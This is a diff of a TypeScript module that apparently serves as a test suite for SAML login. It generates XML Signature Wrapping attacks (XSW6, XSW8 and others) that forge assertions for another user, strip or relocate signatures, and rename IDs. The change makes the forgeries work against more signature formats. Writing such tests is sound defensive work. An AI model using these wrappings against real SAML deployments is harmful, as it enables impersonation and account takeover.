@@ -5,13 +5,29 @@
 
 type Wrap = (response: string, signedName: string, forgedName: string) => string;
 
-const parts = (response: string): { assertion: string; signature: string } => ({
-  assertion: /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '',
-  signature: /<Signature .*<\/Signature>/s.exec(response)?.[0] ?? '',
-});
+const signaturePattern = /<(?:ds:)?Signature .*<\/(?:ds:)?Signature>/s;
 
-const bare = (assertion: string): string => assertion.replace(/<Signature .*<\/Signature>/s, '');
-const renamed = (assertion: string): string => assertion.replace(/ ID="_a/, ' ID="_forged');
+/** The assertion, and the signature in it. */
+const parts = (response: string): { assertion: string; signature: string } => {
+  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
+  return { assertion, signature: signaturePattern.exec(assertion)?.[0] ?? '' };
+};
+
+const bare = (assertion: string): string => assertion.replace(signaturePattern, '');
+const renamed = (assertion: string): string =>
+  assertion.replace(/(<saml:Assertion [^>]*?\bID=")[^"]*/, '$1_forged');
+const withObject = (signature: string, content: string): string =>
+  signature.replace(
+    /<\/(ds:)?Signature>$/,
+    (end, prefix = '') => `<${prefix}Object>${content}</${prefix}Object>${end}`,
+  );
+
+/** The response without the signature that covers all of it: that of its assertion is enough, or so an attacker hopes. */
+export function withoutOuterSignature(response: string): string {
+  const { assertion } = parts(response);
+  const at = response.indexOf(assertion);
+  return bare(response.slice(0, at)) + response.slice(at);
+}
 
 /** An assertion of another person, with or without the ID of the signed one. */
 const forge = (assertion: string, from: string, to: string): string => bare(assertion).replaceAll(from, to);
@@ -42,7 +58,7 @@ export const wrappings: Record<string, Wrap> = {
   },
   'the signature in the forged assertion holds the signed one (XSW6)': (response, from, to) => {
     const { assertion, signature } = parts(response);
-    const wrapped = signature.replace('</Signature>', `<Object>${bare(assertion)}</Object></Signature>`);
+    const wrapped = withObject(signature, bare(assertion));
     return response.replace(
       assertion,
       renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${wrapped}`),
@@ -56,7 +72,7 @@ export const wrappings: Record<string, Wrap> = {
   },
   'the signed assertion hides in an object of a second signature (XSW8)': (response, from, to) => {
     const { assertion, signature } = parts(response);
-    const object = signature.replace('</Signature>', `<Object>${assertion}</Object></Signature>`);
+    const object = withObject(signature, assertion);
     return response.replace(
       assertion,
       renamed(forge(assertion, from, to)).replace('</saml:Issuer>', `</saml:Issuer>${object}`),
@@ -70,7 +86,7 @@ export const wrappings: Record<string, Wrap> = {
     const { assertion } = parts(response);
     const outer = response
       .replace(assertion, renamed(forge(assertion, from, to)))
-      .replace(' ID="_r', ' ID="_outer');
+      .replace(/ ID="[^"]*"/, ' ID="_outer"');
     return outer.replace('</samlp:Response>', `${response}</samlp:Response>`);
   },
   'the forged assertion is called by another namespace': (response, from, to) => {
